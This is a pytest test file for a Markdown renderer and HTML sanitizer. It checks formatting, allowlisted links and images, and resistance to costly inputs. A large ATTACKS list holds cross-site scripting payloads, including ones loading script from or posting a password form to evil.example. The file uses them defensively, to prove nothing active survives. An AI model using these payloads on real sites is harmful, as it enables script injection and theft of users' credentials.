import os
import re
import time
from contextlib import suppress
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from formats.markdown import TooDeep, TooLarge, plain, render
from formats.safe_html import clean

SAMPLES = os.environ.get("CORDEE_SAMPLES")
SECONDS = 0.5


class Inspector(HTMLParser):
    """What a browser would find: tags, attributes and addresses that may act."""

    ALLOWED = {
        "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "div", "dl", "dt", "em", "figcaption",
        "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s",
        "small", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var",
    }  # fmt: skip
    ATTRIBUTES = {
        "align",
        "alt",
        "class",
        "height",
        "href",
        "id",
        "lang",
        "loading",
        "rel",
        "src",
        "start",
        "title",
        "width",
    }

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in self.ALLOWED:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in self.ATTRIBUTES:
                self.faults.append(f"{tag} {name}")
            if name == "src" and not value.startswith("/media/"):
                self.faults.append(f"src {value}")
            if name == "href" and not re.match(
                r"https?://|mailto:|tel:|/(?![/\\])|#fn", value, re.IGNORECASE
            ):
                self.faults.append(f"href {value}")
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer nofollow":
            self.faults.append("a without rel")

    def handle_comment(self, data):
        self.faults.append("comment")

    def handle_decl(self, decl):
        self.faults.append("declaration")


def faults(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults


def cpu_seconds(text: str) -> float:
    """The CPU that a text costs, refused or rendered: the best of three, since a busy machine counts too much."""
    best = float("inf")
    for _attempt in range(3):
        began = time.thread_time()
        with suppress(TooLarge):
            render(text)
        best = min(best, time.thread_time() - began)
        if best < SECONDS:
            break
    return best


def test_render_keeps_what_people_write():
    html = render("Bonjour **à tous**, voir [la carte](https://example.org/carte).")

    assert html == (
        "<p>Bonjour <strong>à tous</strong>, voir "
        '<a href="https://example.org/carte" rel="noopener noreferrer nofollow">la carte</a>.</p>'
    )


def test_render_breaks_lines_where_they_were_broken():
    assert render("une ligne\net une autre") == "<p>une ligne<br>\net une autre</p>"


def test_a_numbered_list_right_under_a_sentence_keeps_its_structure():
    html = render("Il faut :\n1) le réseau ;\n2) la formation ;\n3) des aides")

    assert html.count("<li>") == 3
    assert html.startswith("<p>Il faut :</p>\n<ol>")


@pytest.mark.parametrize("dash", ["-", "•", "–", "*", "+"])
def test_a_dashed_list_right_under_a_sentence_keeps_its_structure(dash):
    html = render(f"Un lieu pour :\n{dash} travailler\n{dash} apprendre\n\nLa suite.")

    assert (
        html
        == "<p>Un lieu pour :</p>\n<ul>\n<li>travailler</li>\n<li>apprendre</li>\n</ul>\n<p>La suite.</p>"
    )


@pytest.mark.parametrize("indent", [2, 3, 4])
def test_a_list_in_a_list_needs_no_exact_number_of_spaces(indent):
    html = render("- vallée\n" + " " * indent + "- commune\n- massif")

    assert html.replace("\n", "") == "<ul><li>vallée<ul><li>commune</li></ul></li><li>massif</li></ul>"


def test_a_list_keeps_its_first_number():
    assert '<ol start="4">' in render("4. quatrième\n5. cinquième")


def test_a_year_that_begins_a_line_is_not_a_list():
    assert "<li>" not in render("Le lieu a ouvert en\n2019. Il accueille dix personnes.")


def test_an_indented_paragraph_is_not_code():
    assert render("    Un retrait de première ligne.") == "<p>Un retrait de première ligne.</p>"


def test_tables_keep_their_columns_without_style():
    html = render("| Commune | Habitants |\n|---|--:|\n| Autrans | 1 600 |")

    assert '<th align="right">Habitants</th>' in html
    assert "style" not in html


def test_task_lists_show_what_is_done_without_form_fields():
    html = render("- [x] appeler la mairie\n- [ ] réserver la salle")

    assert '<li class="task">☑ appeler la mairie</li>' in html
    assert '<li class="task">☐ réserver la salle</li>' in html
    assert "<input" not in html


def test_fenced_code_is_shown_as_written():
    assert "<code>a &lt; b</code>" in render("```\na < b\n```")


def test_headings_begin_at_level_three_and_never_skip():
    html = render("# Un\n### Deux\ntexte\n# Trois")

    assert re.findall(r"<h(\d)>", html) == ["3", "4", "3"]


def test_headings_begin_where_the_page_asks():
    assert render("## Titre", first_heading=2) == "<h2>Titre</h2>"


def test_a_raw_heading_is_shifted_too():
    assert "<h1>" not in render("<h1>Titre</h1>")


def test_footnotes_of_two_texts_never_share_an_anchor():
    one, other = render("Vu[^1].\n\n[^1]: En mai."), render("Lu[^1].\n\n[^1]: En juin.")

    anchors = [set(re.findall(r'id="([^"]+)"', html)) for html in (one, other)]
    assert len(anchors[0]) == 2
    assert anchors[0].isdisjoint(anchors[1])


def test_a_footnote_keeps_its_second_paragraph():
    html = render("Vu[^1].\n\n[^1]: En mai.\n\n    Et en juin.\n\nFin.")

    assert html.index("Et en juin") > html.index("Fin")


@pytest.mark.parametrize(
    "cut", ["www.example.org/wp-conten...", "example.org/fr/communique-…", "https://example.org/a..."]
)
def test_a_visibly_cut_link_is_flagged_and_not_clickable(cut):
    html = render(f"Selon une étude ({cut}), oui.")

    assert f'<span class="cut-link">{cut}</span>' in html
    assert "<a " not in html


def test_an_address_becomes_a_link():
    assert '<a href="https://example.org/page" rel="noopener noreferrer nofollow">' in render(
        "Voir https://example.org/page."
    )


def test_front_matter_is_left_out():
    assert render("---\ntitle: Carnet\ntags:\n  - eau\n---\n\nBonjour") == "<p>Bonjour</p>"


def test_a_rule_at_the_top_is_not_front_matter():
    assert "Bonjour à vous" in render("---\n\nBonjour à vous\n\n---\n\nsuite")


def test_images_of_this_site_are_kept():
    html = render("![Le col](/media/col.jpg)")

    assert html == '<p><img alt="Le col" src="/media/col.jpg" loading="lazy"></p>'


def test_images_are_kept_only_under_the_prefixes_given():
    assert "<img" in render("![x](/fr/fichiers/7/)", own_media=("/fr/fichiers/",))
    assert "<img" not in render("![x](/media/a.jpg)", own_media=("/fr/fichiers/",))


@pytest.mark.parametrize(
    "address",
    [
        "https://example.org/pixel.gif",
        "//example.org/pixel.gif",
        "/\\example.org/a.gif",
        "/media/../admin/logout/",
        "/media/%2e%2e/admin/",
        "/media//example.org/a",
        "/medias/a.jpg",
        "data:image/svg+xml;base64,PHN2Zy8+",
        "javascript:alert(1)",
        "media/a.jpg",
        "/MEDIA/a.jpg",
        "/media/a.jpg\n/b",
    ],
)
def test_any_other_image_leaves_its_description(address):
    html = render(f"avant ![Le col]({address}) après") + clean(f'<img alt="Le col" src="{address}">')

    assert "<img" not in html
    assert "Le col" in html


def test_the_description_of_a_dropped_image_is_text():
    html = clean('<img src="https://example.org/a.png" alt="&lt;script&gt;alert(1)&lt;/script&gt;">')

    assert html == "&lt;script&gt;alert(1)&lt;/script&gt;"


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=/media/a.jpg onload=alert(1) style='background:url(//evil)'>",
    "<img/src='/media/a.jpg'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>faux écran</p>",
    "<div id=csrfmiddlewaretoken class='button button-full' onclick=alert(1)>x</div>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='https://ok.example' target=_blank rel=opener>x</a>",
    "<a href='#' onmouseover=alert(1)>x</a>",
    "<a href='https://ok.example' ping='https://evil.example'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](file:///etc/passwd)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/p.gif)",
    '![x" onerror="alert(1)](/media/a.jpg)',
    "![x][y]\n\n[y]: https://evil.example/p.gif",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "```js onload=alert(1)\nx\n```",
    "``` {.js onclick=alert(1)}\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
    "a\x02b\x03 \x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a title='<img src=x onerror=alert(1)>' href=https://ok.example>x</a>",
    "<a title='</a><script>alert(1)</script>' href=https://ok.example>x</a>",
    "<table><td><a href=https://ok.example><table><td><a href=x onclick=alert(1)>",
    "<b><p><b><p><script>alert(1)</script>",
    "///Footnotes Go Here///<img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_comes_out(attack):
    alone, in_a_list, in_a_quote = render(attack), render("- item\n- " + attack), render("> " + attack)

    assert faults(alone) + faults(in_a_list) + faults(in_a_quote) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_alone_lets_nothing_act_and_is_settled_at_once(attack):
    html = clean(attack)

    assert faults(html) == []
    assert clean(html) == html


def test_an_open_script_tag_does_not_swallow_the_rest():
    assert "La suite." in render("Début <script> du texte.\n\nLa suite.")


PIECES = [
    *"<>\"'`=/\\[]()!#*_~|:&;-+.^ \n\tax1é\x02",
    "script",
    "onerror=",
    "javascript:",
    "img ",
    "href=",
    "]]>",
    "<!--",
]
HOSTILE = st.lists(st.sampled_from(PIECES), max_size=60).map("".join)


@settings(max_examples=300, deadline=None)
@given(HOSTILE | st.text(max_size=80))
def test_whatever_is_typed_nothing_acts_and_cleaning_is_settled(text):
    try:
        html = render(text)
    except TooLarge:
        return

    assert faults(html) == []
    assert clean(html) == html


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(ATTACKS), min_size=2, max_size=4))
def test_attacks_combined_let_nothing_act(attacks):
    assert faults(render("".join(attacks))) + faults(render(" \n".join(attacks))) == []


COSTLY = [
    "[",
    "![",
    "<a ",
    "*",
    "_",
    "`",
    "~",
    ">",
    "> ",
    "- ",
    "1. ",
    "[a](",
    "[](",
    "**a",
    "``x`",
    "<",
    "&",
    "\\",
    "<div>",
]
COSTLY += [
    "- a\n",
    "# a\n",
    "a\n=\n",
    "a\n\n",
    "[a]: b\n",
    "[^a]: b\n[^a] ",
    "```\n",
    "|-|-|\n",
    "http://a ",
    "a@b.c ",
    "<!--",
    "(",
    "a.b/@",
]


@pytest.mark.parametrize("unit", COSTLY)
@pytest.mark.parametrize("size", [20_000, 50_000, 149_000])
def test_costly_texts_are_refused_or_rendered_quickly(unit, size):
    assert cpu_seconds((unit * size)[:size]) < SECONDS


@pytest.mark.parametrize("start", ["[" * 10, "``x", "![", "[a](", "<a "])
@pytest.mark.parametrize("unit", ["[a](b) ", "`a` ", "*a* ", "[a][b] "])
def test_one_open_mark_before_many_closed_ones_stays_quick(start, unit):
    assert cpu_seconds(start + unit * 3_900) < SECONDS


def test_200_kilobytes_are_refused_with_the_limit():
    with pytest.raises(TooLarge) as refusal:
        render("mot " * 50_000)

    assert refusal.value.code == "too_long"
    assert (
        str(refusal.value)
        == "This text is too long: 200 kB where 150 kB are accepted. Split it, or attach it as a document."
    )


@pytest.mark.parametrize("text", ["> " * 100 + "a", ">" * 100, "- " * 100 + "a", "1. " * 100 + "a"])
def test_a_hundred_levels_are_refused(text):
    with pytest.raises(TooDeep):
        render(text)


@pytest.mark.parametrize("mark", ["-", "1."])
def test_a_hundred_levels_of_indentation_stay_quick(mark):
    assert cpu_seconds("\n".join("  " * level + f"{mark} niveau" for level in range(100))) < SECONDS


def test_a_long_honest_text_is_rendered():
    assert (
        render("Une phrase avec [un lien](https://example.org/page) et **du poids**.\n\n" * 1_200).count(
            "<p>"
        )
        == 1_200
    )


def test_plain_gives_one_line_per_block():
    assert plain("<p>Un <strong>mot</strong></p><ul><li>a</li><li>b &amp; c</li></ul>") == "Un mot\na\nb & c"


def test_plain_puts_the_cells_of_a_row_on_one_line():
    assert plain(render("| a | b |\n|---|---|\n| 1 | 2 |")) == "a b\n1 2"


def test_plain_reads_the_description_of_images_and_passes_over_note_marks():
    assert plain(render("![Le col](/media/a.jpg) vu[^1]\n\n[^1]: en mai")) == "Le col vu\nen mai"


@pytest.mark.skipif(not SAMPLES, reason="CORDEE_SAMPLES is not set: the real Markdown samples are elsewhere")
def test_all_real_samples_render_safely_and_quickly():
    samples = sorted(Path(SAMPLES, "data", "markdown_samples").glob("*.md"))

    assert len(samples) == 36
    for sample in samples:
        text = sample.read_text(encoding="utf-8")
        html = render(text)
        assert faults(html) == [], sample.name
        assert clean(html) == html, sample.name
        assert len(plain(html)) > len(text) / 3, sample.name
        assert cpu_seconds(text) < SECONDS, sample.name
